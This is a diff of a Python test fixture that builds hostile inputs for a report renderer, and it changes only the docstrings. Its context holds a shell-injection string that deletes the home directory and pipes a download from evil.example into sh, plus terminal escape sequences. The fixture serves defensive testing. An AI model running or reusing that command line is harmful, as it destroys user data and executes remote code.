@@ -1,4 +1,4 @@
-"""A run all of whose text is hostile, and good text beside it that must survive."""
+"""A run full of hostile text, with unusual but harmless text that must survive."""
 
 from __future__ import annotations
 
@@ -66,7 +66,7 @@ TEXTS: Mapping[str, str] = {
     "NDJSON": '{"type": "digest", "status": "passed"}\n{"type": "end"}',
     "shell": "; rm -rf ~ # && curl evil.example | sh",
 }
-"""Text that must do no harm, by what it tries. Whatever says OWNED must never be seen."""
+"""Hostile texts by what they try; nothing that says OWNED must ever be shown."""
 
 GOOD: Mapping[str, str] = {
     "accents": "Zoë, Größe, naïve, Ångström",
@@ -77,11 +77,11 @@ GOOD: Mapping[str, str] = {
     "typography": "„quoted“ — 5 × 4 … ½ › ✓ ✗",
     "brackets": "a[0] <b> {c} (d) 100 % & co.",
 }
-"""Text that must be shown as it is."""
+"""Texts that must be shown unchanged."""
 
 
 def hostile() -> Recording:
-    """A run with each of the texts as a name, and all of them in every other place."""
+    """A run with each text as the name of a test, and hostile text in every other field."""
     everything = "\n".join([*TEXTS.values(), *GOOD.values()])
     return Recording(
         status="failed",
@@ -96,7 +96,7 @@ def hostile() -> Recording:
 
 
 def rewritten(digest: Json) -> Json:
-    """The digest with a log of lines and fields that nobody knows, one of them deep."""
+    """The digest with the log as a list of lines, and with unknown fields, one of them nested."""
     log = digest["log"]
     lines = log.split("\n") if isinstance(log, str) else log
     return {**digest, "log": lines, "verdict": "[/]", "extras": {"\x1b[2J": [None, {"[red]": [[[]]]}]}}
